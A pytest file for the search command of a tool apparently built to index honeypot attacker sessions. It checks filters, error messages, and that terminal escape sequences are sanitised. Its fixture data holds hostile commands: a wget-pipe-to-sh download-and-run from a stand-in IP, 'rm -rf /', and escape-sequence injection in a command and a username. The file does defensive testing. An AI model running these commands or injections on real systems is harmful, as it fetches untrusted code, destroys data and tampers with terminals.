import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from hermes.cli import app, indexed
from tests.unit.analysis.facts import analyst, ran, settings, typed, visit, work
from tests.unit.store.facts import write

Run = Callable[..., Result]
COMMANDS = ("wget http://192.0.2.9/x.sh -O- | sh", "echo \x1b]0;owned\x07 && rm -rf /", "uname -a")


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("data")
    made = settings(directory)
    write(
        made.journal_path,
        *visit("one"),
        *ran("one", *COMMANDS),
        *visit("two", address="2001:db8::5", user="admin\x1b[2J"),
        *typed("two", "uname -r"),
    )
    with analyst(made) as working:
        work(working)
    return directory


@pytest.fixture
def run(data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HERMES_DATA_DIR", str(data_dir))
    return lambda *arguments: CliRunner().invoke(app, ["search", *arguments])


def parsed(result: Result) -> Any:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def ids(result: Result) -> list[int]:
    return [hit["id"] for hit in parsed(result)]


def test_as_json_has_what_others_build_on(run: Run) -> None:
    (hit,) = parsed(run("wget", "--json", "--event", "channel.started"))
    assert (hit["id"], hit["event"], hit["part"], hit["session_id"], hit["channel"]) == (7, "channel.started", "event", "one", 0)
    assert (hit["source_ip"], hit["country"], hit["username"], hit["text"]) == ("192.0.2.7", "NL", "root", COMMANDS[0])
    assert (hit["snippet"], hit["highlights"]) == (COMMANDS[0], ["wget"])
    assert hit["time"].endswith("Z")


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        (["uname"], [16, 9]),
        (["uname", "--limit", "1"], [16]),
        (["rm", "-rf"], None),
        (["rm -rf"], [8]),
        (["--", "-rf", "rm"], [8]),
        (["-s", "nam"], [16, 9]),
        (["--fts", "uname NOT a"], [16]),
        (["uname", "--ip", "192.0.2.0/24"], [9]),
        (["uname", "--ip", "2001:db8::5"], [16]),
        (["--country", "nl", "uname", "--session", "two"], [16]),
        (["uname", "--user", "root"], [9]),
        (["--host", "192.0.2.9"], [7]),
        (["--hassh", "HASSH-of-root", "sh"], [7]),
        (["--hash", "ab" * 32], []),
        (["--since", "1h", "uname"], [16, 9]),
        (["--until", "1h", "uname"], []),
        (["echo \x1b]0;owned\x07 && rm -rf /"], [8]),
    ],
)
def test_words_and_filters(run: Run, arguments: list[str], found: list[int] | None) -> None:
    result = run("--json", *arguments)
    if found is None:  # the shell's words are options here
        assert result.exit_code == 2
    else:
        assert ids(result) == found


def test_nothing_of_an_attacker_reaches_the_terminal_as_it_is(run: Run) -> None:
    for arguments in (["rm"], ["owned"], ["admin"], ["-s", "\x1b"], ["--event", "*"]):
        out = run(*arguments).stdout
        assert out.replace("\n", "").isprintable(), out
        assert "Nothing found" not in out
    assert "\\x1b]0;owned\\x07" in run("owned").stdout


def test_each_hit_says_when_where_and_who(run: Run) -> None:
    head, line = run("-s", "uname -r").stdout.splitlines()
    assert head[19:] == "  channel.input  session two  from 2001:db8::5  user admin\\x1b[2J  NL"
    assert line == "    uname -r"


def test_nothing_found_is_no_failure(run: Run) -> None:
    result = run("nosuchword")
    assert (result.exit_code, result.stdout) == (0, "Nothing found.\n")


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["--ip", "nonsense"], 2, "--ip nonsense: give an address"),
        (["--since", "whenever"], 2, "--since whenever"),
        (["--until", "whenever"], 2, "--until whenever"),
        (["--fts", "a OR"], 1, "FTS5"),
        (["--fts", "-s", "a"], 2, "exclude each other"),
        (["--hash", "xyz"], 1, "a hash is"),
        (["x", "--set", "data_dir=/nonexistent"], 1, "there is no index at /nonexistent/index/index.db"),
    ],
)
def test_what_is_wrong_is_said_in_one_line(run: Run, arguments: list[str], code: int, said: str) -> None:
    result = run(*arguments)
    assert result.exit_code == code
    assert result.stderr.startswith("hermes: ")
    assert said in result.stderr
    assert result.stderr.count("\n") == 1


def test_an_index_that_is_behind_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"))
    with analyst(made) as working:
        work(working)
    monkeypatch.setattr(indexed, "BEHIND", 3)
    write(made.journal_path, *visit("two"))
    result = CliRunner().invoke(app, ["search", "root", "--set", f"data_dir={tmp_path}"])
    assert result.exit_code == 0
    assert result.stderr == "The index is 6 events behind the journal.\n"


def test_events_that_could_not_be_analysed_are_told_of(tmp_path: Path) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"))
    with analyst(made) as working:
        work(working)
        working.index.db.execute("UPDATE index_stages SET skipped = 2 WHERE name = 'commands'")
    result = CliRunner().invoke(app, ["search", "root", "--set", f"data_dir={tmp_path}"])
    assert result.stderr == "2 events could not be analysed (the log names them).\n"
